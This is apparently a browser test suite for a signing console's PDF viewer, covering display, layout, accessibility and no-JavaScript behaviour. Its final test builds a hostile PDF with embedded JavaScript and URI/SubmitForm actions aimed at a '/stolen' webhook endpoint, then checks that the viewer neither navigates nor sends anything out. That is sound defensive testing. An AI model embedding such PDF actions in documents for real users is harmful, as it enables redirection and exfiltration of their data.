import { eventually } from '@campus/testing';
import { expectAccessible, useBrowser } from '@campus/testing/browser';
import { PDFDocument, rgb } from '@cantoo/pdf-lib';
import { expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import { signInAt } from '../../support/browse.ts';
import { agreementPdf } from '../../support/pdf-updates.ts';
import { deposit, givenInSigning } from '../../support/records.ts';
import { useService } from '../../support/service.ts';

const service = useService({ webhook: false });
const withViewer = useBrowser(() => service.url, 'chromium');
const withoutViewer = useBrowser(() => service.url);

const red = [255, 0, 0];
const blue = [0, 0, 255];

/** A PDF of pages that are of one colour all over. */
async function colouredPdf([r = 0, g = 0, b = 0]: number[], pages: number): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  for (let number = 0; number < pages; number += 1)
    document
      .addPage([600, 800])
      .drawRectangle({ width: 600, height: 800, color: rgb(r / 255, g / 255, b / 255) });
  return document.save();
}

/** A record whose document is blue, and came back red with a page more. */
async function givenArrived(): Promise<string> {
  const { id } = await givenInSigning(service, { pdf: await colouredPdf(blue, 1) });
  await deposit(service, id, await colouredPdf(red, 2)).expect(200);
  return `/console/conventions/${id}/`;
}

/** The colour in the middle of what the frame shows. */
async function colourShown(page: Page): Promise<number[]> {
  const picture = await page.locator('.document iframe').screenshot();
  const canvas = await page.context().newPage();
  const colour = await canvas.evaluate<number[]>(`(async () => {
    const image = new Image();
    image.src = 'data:image/png;base64,${picture.toString('base64')}';
    await image.decode();
    const context = new OffscreenCanvas(image.width, image.height).getContext('2d');
    context.drawImage(image, 0, 0);
    return [...context.getImageData(image.width / 2, image.height / 2, 1, 1).data].slice(0, 3);
  })()`);
  await canvas.close();
  return colour;
}

/** How many pages the viewer of the browser says it shows, once it is there. */
const pagesShown = (page: Page) =>
  page
    .frames()
    .find((frame) => frame.url().startsWith('chrome-extension://'))
    ?.locator('#pagelength')
    .textContent();

const link = (page: Page, name: string) => page.locator('.document').getByRole('link', { name, exact: true });

test('The newest signed document is shown beside its record, and another one when it is chosen', async () => {
  const address = await givenArrived();
  const page = await withViewer.newPage();
  await signInAt(page, address);
  const frame = page.locator('.document iframe');

  await eventually(async () => expect(await colourShown(page)).toEqual(red));
  expect(await frame.getAttribute('title')).toBe('Signed, version 1');
  expect((await frame.boundingBox())?.x).toBeGreaterThan(600);
  await expectAccessible(page);

  await link(page, 'As registered').click();
  await eventually(async () => expect(await colourShown(page)).toEqual(blue));
  expect(await frame.getAttribute('title')).toBe('As registered');
  expect(await link(page, 'As registered').getAttribute('aria-current')).toBe('true');
  expect(await link(page, 'Signed, version 1').getAttribute('aria-current')).toBeNull();
  expect(new URL(page.url()).pathname).toBe(address);

  await link(page, 'Open by itself').click();
  await page.waitForURL(/\/pdf$/);
  await page.goBack();
  expect(new URL(page.url()).pathname).toBe(address);
});

test('The course of a round shows its documents in the same place, below it where there is less room', async () => {
  const address = await givenArrived();
  const page = await withViewer.newPage({ viewport: { width: 800, height: 800 } });
  await signInAt(page, address);
  await link(page, 'As registered').click();

  await page.getByRole('listitem').getByRole('link', { name: 'Signed document, version 1' }).first().click();

  await eventually(async () => expect(await colourShown(page)).toEqual(red));
  expect((await page.locator('.document iframe').boundingBox())?.x).toBeLessThan(100);
});

test.each([
  ['On a phone', withViewer, { viewport: { width: 390, height: 780 } }],
  ['Without JavaScript', withViewer, { javaScript: false }],
  ['In a browser without a viewer', withoutViewer, {}],
])('%s the documents are links, and nothing is fetched beside the page', async (_, browser, options) => {
  const address = await givenArrived();
  const page = await browser.newPage(options);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).pathname));

  await signInAt(page, address);
  await page.waitForLoadState('networkidle');

  expect(asked.filter((path) => path.endsWith('pdf'))).toEqual([]);
  expect(await link(page, 'Signed, version 1').getAttribute('href')).toBe(`${address}signed-pdf?version=1`);
});

test.each([
  ['in French', { language: 'fr' }],
  ['in the dark', { colourScheme: 'dark' }],
  ['on a phone', { viewport: { width: 390, height: 780 } }],
] as const)('The page of a record has no serious fault for anybody, %s', async (_, options) => {
  const address = await givenArrived();
  await service.institution.post(`/api${address.slice('/console'.length)}signature`).expect(202);
  const page = await withViewer.newPage(options);
  await signInAt(page, address);
  await page.evaluate("for (const folded of document.querySelectorAll('details')) folded.open = true");
  // On a phone there is none.
  if (!('viewport' in options)) await eventually(async () => expect(await pagesShown(page)).toMatch(/^\d+$/));

  await expectAccessible(page);

  const [wide, seen] = await page.evaluate<[number, number]>(
    '[document.documentElement.scrollWidth, document.documentElement.clientWidth]',
  );
  expect(wide).toBeLessThanOrEqual(seen);
});

test('Given a PDF that wants to lead elsewhere and to send itself away, Then the page stays, and nobody is asked', async () => {
  const elsewhere = `${service.webhook.url}/stolen`;
  const script = `app.launchURL('${elsewhere}', true); this.submitForm('${elsewhere}'); this.getURL('${elsewhere}');`;
  const hostile = agreementPdf({
    entries: {
      1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) /Next [<< /S /URI /URI (${elsewhere}) >> << /S /SubmitForm /F (${elsewhere}) >>] >> >>`,
      3: `<< /Type /Page /Parent 2 0 R /Contents 4 0 R /AA << /O << /S /URI /URI (${elsewhere}) >> >> >>`,
    },
  });
  const { id } = await givenInSigning(service);
  await deposit(service, id, hostile).expect(200);
  const address = `/console/conventions/${id}/`;
  const page = await withViewer.newPage();
  await signInAt(page, address);

  await eventually(async () => expect(await pagesShown(page)).toBe('2'));
  await page.locator('.document iframe').click();

  expect(new URL(page.url()).pathname).toBe(address);
  expect(page.context().pages()).toHaveLength(1);
  expect(service.webhook.requests).toEqual([]);
});
